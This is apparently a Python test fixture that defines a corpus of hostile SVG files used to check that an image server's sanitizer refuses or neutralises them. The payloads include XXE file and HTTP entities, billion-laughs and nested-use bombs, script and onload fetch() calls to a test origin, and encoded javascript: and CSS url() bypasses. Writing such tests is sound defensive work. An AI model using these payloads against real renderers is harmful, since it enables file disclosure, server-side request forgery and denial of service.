"""Hostile SVGs: each tries to make the renderer fetch a URL, read a file, run script, or
draw without end; what the server owes each (refused with a status, or drawn clean).

Every payload is a 100x100 document whose legitimate drawing is all green (`tests.svgs.
document`); the attack, were it to work, draws MAGENTA: an image, a stylesheet, a font or
a referenced document served by the loopback origin at `{origin}` or written to the temp
directory `{dir}`. So an accepted payload must render all green, the origin must count no
request, and the sanitized document must name neither place. Many are the known bypasses
of other servers' sanitizers: entity-encoded and CSS-escaped `javascript:`/`url(`, CDATA
style sheets, namespace-prefix and upper-case `href`s, `xml:base`, `<animate>`/`<set>`
that write an `href`, XInclude and `<?xml-stylesheet?>`.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

import pyvips

from tests.svgs import NS, document

ACCEPTED = (201, None)
UNSUPPORTED = (415, "unsupported_format")
UNDECODABLE = (422, "undecodable_image")
TOO_LARGE = (413, "payload_too_large")
TOO_MANY_PIXELS = (413, "too_many_pixels")

MAGENTA_SVG = (
    f'<svg {NS} width="100" height="100"><rect id="a" width="100" height="100" fill="#f0f"/>'
    '<linearGradient id="g"><stop stop-color="#f0f"/></linearGradient>'
    '<pattern id="p" width="10" height="10"><rect width="10" height="10" fill="#f0f"/>'
    "</pattern></svg>"
)
_MAGENTA = pyvips.Image.black(4, 4).bandjoin([0, 0]).linear(1, [255, 0, 255])
MAGENTA_PNG = bytes(_MAGENTA.cast("uchar").copy(interpretation="srgb").pngsave_buffer())
MAGENTA_DATA_URI = "data:image/png;base64," + base64.b64encode(MAGENTA_PNG).decode()
EVIL_CSS = "rect { fill: #f0f !important } * { fill: #f0f }"


@dataclass(frozen=True)
class HostileSvg:
    name: str
    template: str  # `{origin}` and `{dir}` are filled in by the test
    answer: tuple[int, str | None] = ACCEPTED

    def data(self, origin: str, directory: str) -> bytes:
        return self.template.replace("{origin}", origin).replace("{dir}", directory).encode()


def _drawn(name: str, body: str) -> HostileSvg:
    return HostileSvg(name, document(body).decode())


GREEN_RECT = 'width="100" height="100" fill="#00ff00"'

CORPUS: tuple[HostileSvg, ...] = (
    # --- the parser: entities and DTDs -------------------------------------------------
    HostileSvg(
        "xxe-file",
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{dir}/secret.txt">]>'
        f'<svg {NS} width="10" height="10"><text>&x;</text></svg>',
        UNSUPPORTED,
    ),
    HostileSvg(
        "xxe-http",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "{origin}/secret.txt">]>'
        f'<svg {NS} width="10" height="10"><text>&x;</text></svg>',
        UNSUPPORTED,
    ),
    HostileSvg(
        "billion-laughs",
        '<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
        f']><svg {NS} width="10" height="10"><text>&d;&d;&d;&d;</text></svg>',
        UNSUPPORTED,
    ),
    HostileSvg(
        "parameter-entity",
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "{origin}/evil.dtd"> %p;]>'
        f'<svg {NS} width="10" height="10"/>',
        UNSUPPORTED,
    ),
    HostileSvg(
        "external-dtd",
        f'<!DOCTYPE svg SYSTEM "{{origin}}/evil.dtd"><svg {NS} width="10" height="10"/>',
        UNSUPPORTED,
    ),
    HostileSvg(
        "undeclared-entity",
        f'<svg {NS} width="10" height="10"><text>&xxe;</text></svg>',
        UNDECODABLE,
    ),
    # --- script and events -------------------------------------------------------------
    _drawn("script", '<script>document.location="{origin}/stolen"</script>'),
    _drawn(
        "script-cdata", '<script type="text/ecmascript"><![CDATA[fetch("{origin}/x")]]></script>'
    ),
    _drawn("onload", f'<rect {GREEN_RECT} onload="fetch(\'{{origin}}/x\')" onclick="x()"/>'),
    _drawn(
        "entity-encoded-javascript",
        f'<a href="&#106;&#97;vascript:fetch(&quot;{{origin}}/x&quot;)"><rect {GREEN_RECT}/></a>',
    ),
    _drawn("a-xlink-javascript", f'<a xlink:href="javascript:alert(1)"><rect {GREEN_RECT}/></a>'),
    # --- images and embedded documents ------------------------------------------------
    _drawn("image-http", '<image href="{origin}/magenta.png" width="100" height="100"/>'),
    _drawn(
        "image-xlink-file",
        '<image xlink:href="file://{dir}/magenta.png" width="100" height="100"/>',
    ),
    _drawn("image-relative", '<image href="magenta.png" width="100" height="100"/>'),
    _drawn("image-data-uri", f'<image href="{MAGENTA_DATA_URI}" width="100" height="100"/>'),
    _drawn(
        "foreign-object-html",
        '<foreignObject width="100" height="100"><img xmlns="http://www.w3.org/1999/xhtml" '
        'src="{origin}/magenta.png" width="100" height="100"/></foreignObject>',
    ),
    _drawn(
        "html-elements",
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="{origin}/x"/>'
        '<embed xmlns="http://www.w3.org/1999/xhtml" src="{origin}/x"/>',
    ),
    _drawn("use-http", '<use href="{origin}/magenta.svg#a"/>'),
    _drawn("use-xlink-file", '<use xlink:href="file://{dir}/magenta.svg#a"/>'),
    _drawn(
        "use-prefix-trick",
        '<use xmlns:x="http://www.w3.org/1999/xlink" x:href="{origin}/magenta.svg#a"/>',
    ),
    _drawn("use-upper-case-href", '<use HREF="{origin}/magenta.svg#a" Href="#a"/>'),
    _drawn(
        "fe-image",
        '<filter id="f"><feImage href="{origin}/magenta.png"/></filter>'
        f'<rect {GREEN_RECT} filter="url(#f)"/>',
    ),
    _drawn(
        "xml-base",
        '<g xml:base="{origin}/"><image href="magenta.png" width="100" height="100"/>'
        f'<use href="magenta.svg#a"/><rect {GREEN_RECT}/></g>',
    ),
    _drawn("tref", '<text><tref xlink:href="{origin}/magenta.svg#t"/></text>'),
    _drawn("gradient-href", '<linearGradient id="g" href="{origin}/magenta.svg#g"/>'),
    _drawn(
        "pattern-href-file",
        '<pattern id="p" xlink:href="file://{dir}/magenta.svg#p"/>'
        f'<rect {GREEN_RECT} style="fill:url(#p) #00ff00"/>',
    ),
    _drawn(
        "xinclude",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{dir}/magenta.svg"'
        ' parse="xml"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="{origin}/magenta.svg"/>',
    ),
    HostileSvg(
        "xml-stylesheet-pi",
        '<?xml version="1.0"?><?xml-stylesheet href="{origin}/evil.css" type="text/css"?>'
        + document("").decode(),
    ),
    _drawn(
        "svg-font",
        '<font-face><font-face-src><font-face-uri href="{origin}/f.svg"/>'
        "</font-face-src></font-face>",
    ),
    _drawn("cursor", '<cursor xlink:href="{origin}/c.png"/>'),
    # --- CSS ----------------------------------------------------------------------------
    _drawn("css-url-attribute", f'<rect {GREEN_RECT} style="fill:url({{origin}}/magenta.svg#p)"/>'),
    _drawn("css-url-presentation", f'<rect {GREEN_RECT} mask="url({{origin}}/m.svg#m)"/>'),
    _drawn("css-import", "<style>@import url({origin}/evil.css);</style>"),
    _drawn("css-import-string", '<style>@import "{origin}/evil.css";</style>'),
    _drawn(
        "css-font-face",
        "<style>@font-face{font-family:x;src:url({origin}/f.ttf)} text{font-family:x}</style>"
        '<text fill="#00ff00" y="50">hi</text>',
    ),
    _drawn(
        "css-escapes",
        f'<rect {GREEN_RECT} style="fill:\\75\\72\\6c({{origin}}/magenta.svg#p)"/>'
        "<style>rect{fill:\\75 rl({origin}/magenta.svg#p)}</style>",
    ),
    _drawn("css-comment-split", f'<rect {GREEN_RECT} style="fill:u/**/rl({{origin}}/m.svg#p)"/>'),
    _drawn("css-upper-case", f'<rect {GREEN_RECT} style="FILL:URL({{origin}}/m.svg#p)"/>'),
    _drawn("css-cdata", "<style><![CDATA[rect{fill:url({origin}/magenta.svg#p)}]]></style>"),
    _drawn(
        "css-image-set",
        f'<rect {GREEN_RECT} style="fill:image-set(&quot;{{origin}}/m.png&quot; 1x)"/>',
    ),
    _drawn(
        "css-data-uri",
        f'<rect {GREEN_RECT} style="fill:url(data:image/svg+xml;base64,PHN2Zy8+)"/>',
    ),
    _drawn(
        "css-javascript",
        f'<rect {GREEN_RECT} style="fill:expression(alert(1));color:javascript:alert(1)"/>',
    ),
    # --- animation that writes an href ------------------------------------------------
    _drawn(
        "animate-href",
        '<rect id="r" width="1" height="1" fill="#00ff00"/><use href="#r">'
        '<animate attributeName="href" to="{origin}/magenta.svg#a" begin="0s" fill="freeze"/>'
        "</use>",
    ),
    _drawn(
        "set-xlink-href",
        '<rect id="r" width="1" height="1" fill="#00ff00"/><use xlink:href="#r">'
        '<set attributeName="xlink:href" to="{origin}/magenta.svg#a"/></use>',
    ),
    _drawn(
        "animate-fill",
        f'<rect {GREEN_RECT}><animate attributeName="fill" to="url({{origin}}/m.svg#p)"/></rect>',
    ),
    # --- resources: size, depth, expansion -------------------------------------------
    HostileSvg("huge-size", f'<svg {NS} width="100000" height="100000"/>', TOO_MANY_PIXELS),
    HostileSvg("depth-bomb", f"<svg {NS}>" + "<g>" * 100_000, TOO_LARGE),
    HostileSvg("many-elements", f"<svg {NS}>" + "<g/>" * 60_000 + "</svg>", TOO_LARGE),
    HostileSvg(
        "nested-use-bomb",
        f'<svg {NS} width="10" height="10"><rect id="a0" width="1" height="1"/>'
        + "".join(
            f'<g id="a{level}">' + f'<use href="#a{level - 1}"/>' * 10 + "</g>"
            for level in range(1, 9)
        )
        + "</svg>",
        TOO_LARGE,
    ),
    HostileSvg(
        "use-loop",
        f'<svg {NS} width="10" height="10"><g id="a"><use href="#b"/></g>'
        '<g id="b"><use href="#a"/></g></svg>',
        UNDECODABLE,
    ),
    HostileSvg(
        "use-of-an-ancestor",
        f'<svg {NS} width="10" height="10"><g id="a"><rect width="1" height="1"/>'
        '<use href="#a"/></g></svg>',
        UNDECODABLE,
    ),
    HostileSvg(
        "pattern-loop",
        f'<svg {NS} width="10" height="10"><pattern id="p" width="1" height="1">'
        '<rect width="1" height="1" fill="url(#p)"/></pattern>'
        '<rect width="10" height="10" fill="url(#p)"/></svg>',
        UNDECODABLE,
    ),
    HostileSvg(
        "gradient-href-loop",
        f'<svg {NS} width="10" height="10"><linearGradient id="a" href="#b"/>'
        '<linearGradient id="b" href="#a"/><rect width="10" height="10" fill="url(#a)"/></svg>',
        UNDECODABLE,
    ),
    HostileSvg("not-svg", '<?xml version="1.0"?><html><script>x</script></html>', UNSUPPORTED),
)
